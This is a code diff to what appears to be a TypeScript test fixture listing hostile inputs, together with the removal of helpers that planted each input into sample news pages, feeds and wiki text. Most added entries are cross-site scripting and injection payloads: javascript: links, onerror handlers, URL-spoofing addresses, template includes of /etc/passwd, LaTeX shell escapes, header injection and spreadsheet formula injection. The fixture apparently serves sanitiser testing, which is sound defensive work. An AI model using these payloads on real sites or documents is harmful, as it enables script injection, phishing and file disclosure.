@@ -100,37 +100,65 @@ export const markers: readonly string[] = [
   "${process.exit(9)}",
   "#{process.exit(9)}",
   "@{marked=1}",
+  // addresses that browsers repair, each in its own way
+  "<a href='\\\\marker.example\\x'>甲</a><a href='/\\marker.example/'>乙</a><a href='https:/marker.example/'>丙</a><a href=https:marker.example/y>丁</a>",
+  "<a href='ht\ntps://marker.exa\tmple/'>甲</a><a href='https://marker%2eexample/'>乙</a><a href='https://ｍarker.example/'>丙</a>",
+  "<a href='https://www.bbc.com%2F@marker.example/'>甲</a><a href='https://www.bbc.com\\@marker.example/'>乙</a><a href='https://0x7f.1/'>丙</a>",
+  "<a href='https://www.bbс.com/'>https://www.bbc.com/</a><a href='https://marker.example/%2e%2e/%2e%2e/'>甲</a>",
+  "<a href='&NewLine;java&Tab;script&colon;marked=1'>甲</a><a href='&#0;javascript:marked=1'>乙</a><a href='%6aavascript:marked=1'>丙</a><a href='javascript&#00058;marked=1'>丁</a>",
+  "<a href='blob:https://marker.example/x'>甲</a><a href='filesystem:https://marker.example/x'>乙</a><a href='view-source:https://marker.example/'>丙</a><a href='intent://marker.example#Intent;end'>丁</a><a href='mhtml:https://marker.example!x'>戊</a>",
+  "<a href='#' onclick=marked=1 name=body id=archiveSearch>甲</a><a href='?a=1'>乙</a><a href='..//marker.example'>丙</a><a href='//marker.example:99999/'>丁</a>",
+  `<a href='https://${"a".repeat(300)}.example/'>甲</a><img src='https://${"a.".repeat(200)}example/a.png'>`,
+  // elements that load, of every age
+  "<link rel=preconnect href=//marker.example><link rel=preload as=image imagesrcset='//marker.example/p 1x'><link rel=modulepreload href=//marker.example/m.js><link rel=manifest href=//marker.example/m><link rel='shortcut icon' href=//marker.example/i>",
+  "<meta name=referrer content=unsafe-url><meta http-equiv=set-cookie content='a=b'><meta http-equiv=x-dns-prefetch-control content=on><meta property=og:image content=https://marker.example/o.png>",
+  "<input type=image src=//marker.example/i.png><body background=//marker.example/b.png><img lowsrc=//marker.example/l.png dynsrc=//marker.example/d.avi longdesc=//marker.example/>",
+  "<video><source src=//marker.example/v.mp4><track default src=//marker.example/t.vtt></video><audio controls><source src=//marker.example/a.ogg></audio><bgsound src=//marker.example/b.mid>",
+  "<svg><image href=//marker.example/s.png /><feImage href=//marker.example/f.png /><filter id=f><feImage xlink:href=//marker.example/g.png /></filter><style>@import url(//marker.example/s.css)</style></svg>",
+  "<svg><set attributeName=href to=javascript:marked=1 /><animate attributeName=href values=javascript:marked=1 /><a><text>甲</text></a></svg>",
+  "<svg><title><style><img src=x onerror=marked=1></style></title></svg><math><mi><b><mglyph><img src=x onerror=marked=1></mglyph></b></mi></math>",
+  "<svg xmlns:x='http://www.w3.org/1999/xhtml'><x:script>marked=1</x:script><x:img src='x' onerror='marked=1'/></svg>",
+  "<div style=\"background:url('//marker.example/1');list-style:url(//marker.example/2);behavior:url(//marker.example/3);-moz-binding:url(//marker.example/4);width:expression(marked=1)\">甲</div>",
+  "<style>@font-face{font-family:a;src:url(//marker.example/f)}*{font-family:a}a[href^=h]{background:image-set('//marker.example/5' 1x)}</style>",
+  "<applet code=x archive=//marker.example/a.jar></applet><object data=//marker.example/o><param name=movie value=//marker.example/p></object><embed src=javascript:marked=1><layer src=//marker.example/l></layer><ilayer src=//marker.example/i></ilayer>",
+  "<frameset onload=marked=1><frame src=//marker.example/></frameset>",
+  "<noembed><img src=x onerror=marked=1></noembed><noframes><img src=x onerror=marked=1></noframes><listing><img src=x onerror=marked=1></listing>",
+  "<blockquote cite=//marker.example/>甲</blockquote><q cite=javascript:marked=1>乙</q><del cite=//marker.example/>丙</del><area href=javascript:marked=1><map name=x><area shape=rect coords=0,0,9,9 href=//marker.example/></map><img usemap=#x src=x>",
+  "<button type=submit form=search formaction=//marker.example/ formmethod=post>甲</button><input name=q value=x form=search><output for=q>乙</output><label for=q>丙</label>",
+  "<p contenteditable autofocus onfocus=marked=1 tabindex=0 accesskey=s draggable=true ondragstart=marked=1 hidden inert popover=manual itemscope itemref=x>甲</p><keygen autofocus onfocus=marked=1>",
+  "<p role=alert aria-live=assertive aria-labelledby=content data-article-id=x data-total=9 data-exporting=search data-offer=1 class='see-also picture leads-to'>甲</p>",
+  "<div id=__proto__><div id=constructor><form id=document name=getElementById><input name=querySelector><input name=body></form></div></div>",
+  "<link rel=import href=//marker.example/><script src=//marker.example/x.js type=module crossorigin async></script><script nomodule>marked=1</script><script language=vbscript>marked=1</script>",
+  "<img src=https://marker.example/a.png srcset='https://marker.example/b.png 2x, javascript:marked=1 3x' sizes=100vw loading=eager fetchpriority=high referrerpolicy=unsafe-url crossorigin=use-credentials>",
+  "<img src='https://a;script-src *.marker.example/a.png'><img src=\"https://marker.example/a.png' https://marker.example/b.png\"><img src='https://marker.example,img-src/c.png'>",
+  // ends of what a text may stand in
+  "]]>\"'--></xmp></plaintext></math></svg></select></table></frameset></noframes></noembed></listing></p></div></main></article></body></html><script>marked=1</script>",
+  "</item></channel></rss><item><title>x</title></item>]]>",
+  "</bdi></h1></header><h1>档案已关闭</h1><form action=//marker.example/><input type=password></form>",
+  "\u0085\u000b\u000c<script>marked=1</script>\u001c",
+  "\ufe64script\ufe65marked=1\ufe64/script\ufe65 \uff1cscript\uff1emarked=1\uff1c/script\uff1e",
+  // languages of templates, wikis and documents
+  "{{ page.url | prepend: site.baseurl }}{% raw %}{% endraw %}{% include_relative ../../../etc/passwd %}{%- assign x = site -%}",
+  "{{< highlight js >}}marked=1{{< /highlight >}}{{% include \"/etc/passwd\" %}}{{ readFile \"/etc/passwd\" }}{{< rawhtml >}}<script>marked=1</script>{{< /rawhtml >}}",
+  "{{#invoke:Module|marked}}{{int:lang}}{{MediaWiki:Common.js}}{{Special:Recentchanges}}{{DISPLAYTITLE:<script>marked=1</script>}}{{#tag:iframe||src=//marker.example/}}",
+  "<syntaxhighlight lang='x\" onmouseover=\"marked=1'>marked=1</syntaxhighlight><templatestyles src='//marker.example/x.css' /><html><script>marked=1</script></html>",
+  "[[File:x.jpg|thumb|link=https://marker.example/|alt=\"><img src=x onerror=marked=1>|<img src=x onerror=marked=1>]][[Media:javascript:marked=1]][[:javascript:marked=1|甲]]",
+  "[//marker.example 甲] [mailto:a@marker.example 乙] [[w:en:javascript:marked=1|丙]] [[//marker.example|丁]] [ftp://marker.example/ 戊] [data:text/html,x 己]",
+  "<imagemap>\nFile:x.jpg|甲\nrect 0 0 9 9 [javascript:marked=1 乙]\ndefault [//marker.example 丙]\n</imagemap><gallery widths=1e9 perrow=-1>\nhttps://marker.example/a.png|<script>marked=1</script>\n</gallery>",
+  "<nowiki><script>marked=1</script></nowiki><pre><nowiki></pre><img src=x onerror=marked=1></nowiki><math>\\href{javascript:marked=1}{x}</math><score>\\new Voice</score><!-- --!><script>marked=1</script>",
+  "{| onclick=marked=1 background=//marker.example/\n|- style='background:url(//marker.example/)'\n| colspan=99999999 onclick=marked=1 | 甲\n|}",
+  "[甲](<javascript:marked=1>) [乙](\\javascript:marked=1) [丙](&#106;avascript:marked=1) [丁](//marker.example) ![戊](data:text/html,x) [己][x]\n\n[x]: <java\\script:marked=1>\n",
+  "<https://marker.example/<script>marked=1</script>> <mailto:a@marker.example> <x:y> www.marker.example/<img/src=x/onerror=marked=1> a@b.c?<script>marked=1</script>",
+  "~~~ \" onmouseover=marked=1\n<script>marked=1</script>\n~~~\n\n| <img src=x onerror=marked=1> |\n|:-:|\n| [甲](javascript:marked=1) |\n\n- [x] <script>marked=1</script>\n",
+  "[^a]: <script>marked=1</script>\n\n甲[^a][^\"><img src=x onerror=marked=1>]\n\n[^\"><img src=x onerror=marked=1>]: 乙\n",
+  "{: onclick=marked=1 #content .body}\n*[HTML]: <script>marked=1</script>\n::: {onclick=marked=1}\n甲\n:::\n[甲]{onclick=marked=1}",
+  "---\ntitle: x\npermalink: /../../x\n---\n",
+  "\u2028\u2029---\n+++\n;;;\n}{",
+  "\\documentclass{x}\\input{/etc/passwd}\\write18{touch x} @article{x, title={\\immediate\\write18{x}}} } , author = {x",
+  "ER  - \r\nTY  - JOUR\nUR  - javascript:marked=1\nL1  - file:///etc/passwd",
+  "%0d%0aSet-Cookie:a=b\r\nLocation: //marker.example\r\n\r\n<script>marked=1</script>",
+  "＝cmd|'/C calc'!A0", "|calc", "%x", "＠SUM(1)", "－1", "甲;=1+1", " \u00a0=1+1",
   "__proto__", "constructor", "toString", "hasOwnProperty",
   "=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1",
   "\u202eexe.txt\u202c", "\u2066戊\u2069", "\u061c", "\u200f\u200e", "\u0007\u001b[2J\u001b]0;x\u0007", "\ufeff", "\u{e0041}", "\ufdd0", "\u0000",
 ];
-
-const line = (text: string): string => text.replaceAll(/[\r\n]/g, " ").replaceAll("\u0000", " ");
-const prose = "海港大桥昨天通车，记者到现场看了一天。俄罗斯和越南都派了代表来。";
-const xml = (text: string): string => line(text).replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll("]]", "");
-const yaml = (text: string): string => JSON.stringify(line(text));
-
-/** Kinds of seed with a marker wherever one may stand; `nth` keeps addresses apart. */
-export const carriers: Readonly<Record<string, (marker: string, nth: number) => string>> = {
-  "fragment.txt": (m, nth) => `<!--1718870400000-->\n[大桥${line(m).replaceAll("]", "")}](https://harbour.example/f${nth})\n------\n\n<div>${m}</div><p>${prose}</p><p>记者：${m}</p><figure><img src="https://harbour.example/${nth}.jpg" alt="${m.replaceAll('"', "&quot;")}"><figcaption>${m}</figcaption></figure>`,
-  "post.md": (m, nth) => `---\ntitle: ${yaml(`通车 ${m}`)}\ndate: 2024-06-20\nfrom: https://harbour.example/p${nth}\nauthor: ${yaml(m)}\ntags: [${yaml(m)}, 桥]\nextra: ${yaml(m)}\n---\n\n## ${line(m)}\n\n${m}\n\n${prose}\n\n- ${m}\n\n| 甲 | 乙 |\n|-|-|\n| ${line(m).replaceAll("|", "")} | 丙 |\n\n正文[^1]\n\n[^1]: ${m}\n`,
-  "note.md": (m, nth) => `# 通车 ${line(m)}\n\n来源：https://harbour.example/n${nth}\n作者：${line(m)}\n\n${m}\n\n${prose}\n`,
-  "page.html": (m, nth) => `<!doctype html><html lang="zh"><head><title>通车 ${m}</title><link rel=canonical href="https://harbour.example/h${nth}"><meta property="og:title" content="${m.replaceAll('"', "&quot;")}"><meta name=author content="${m.replaceAll('"', "&quot;")}"><script type="application/ld+json">${JSON.stringify({"@type": "NewsArticle", headline: m, author: {name: m}, keywords: [m], datePublished: "2024-06-20"})}</script></head><body><article><h1>通车 ${m}</h1><p>${prose}</p>${m}<p>${prose}</p></article></body></html>`,
-  "feed.xml": (m, nth) => `<?xml version="1.0"?><rss version="2.0"><channel><title>${xml(m)}</title><link>https://harbour.example/</link><item><title>通车 ${xml(m)}</title><link>https://harbour.example/r${nth}</link><author>${xml(m)}</author><category>${xml(m)}</category><pubDate>Thu, 20 Jun 2024 08:00:00 GMT</pubDate><description>&lt;p&gt;${prose}&lt;/p&gt;${xml(m)}</description></item></channel></rss>`,
-  "feed.json": (m, nth) => JSON.stringify({version: "https://jsonfeed.org/version/1.1", title: m, items: [{id: m, url: `https://harbour.example/j${nth}`, title: `通车 ${m}`, content_html: `<p>${prose}</p>${m}`, authors: [{name: m}], tags: [m], date_published: "2024-06-20T08:00:00Z"}]}),
-  "page.txt": (m, nth) => `'''大桥${nth}'''是[[海港]]的一座桥。<ref>{{cite web|title=${m}|url=https://harbour.example/w${nth}}}</ref>${prose}\n\n== ${line(m)} ==\n${m}\n\n{{Infobox bridge|name=${m}|image=${line(m)}}}\n\n* [[${line(m)}|${line(m)}]]\n\n[[Category:${line(m)}]]\n`,
-  "text.txt": (m, nth) => `通车 ${line(m)}\n\n来源：https://harbour.example/t${nth}\n\n${prose}${m}\n${m}\n`,
-};
-
-/** Names of files that a system lets stand, each with a marker in it; a slash cannot be. */
-export function fileNames(): readonly string[] {
-  return markers.map((marker) => line(marker).replaceAll("/", "／")).filter((name) => name.trim() !== "" && !name.startsWith(".") && Buffer.byteLength(name) < 200);
-}
-
-/** Seeds with every marker in every kind, by file name. */
-export function markedSeeds(): Record<string, string> {
-  const kinds = Object.entries(carriers);
-  const seeds = markers.flatMap((marker, nth) => kinds.map(([name, write], kind) => [`${nth}-${name}`, write(marker, nth * kinds.length + kind)] as const));
-  const named = fileNames().map((name, nth) => [`名/${nth} ${name}.txt`, carriers["fragment.txt"]?.("", 100_000 + nth) ?? ""] as const);
-  return Object.fromEntries([...seeds, ...named]);
-}
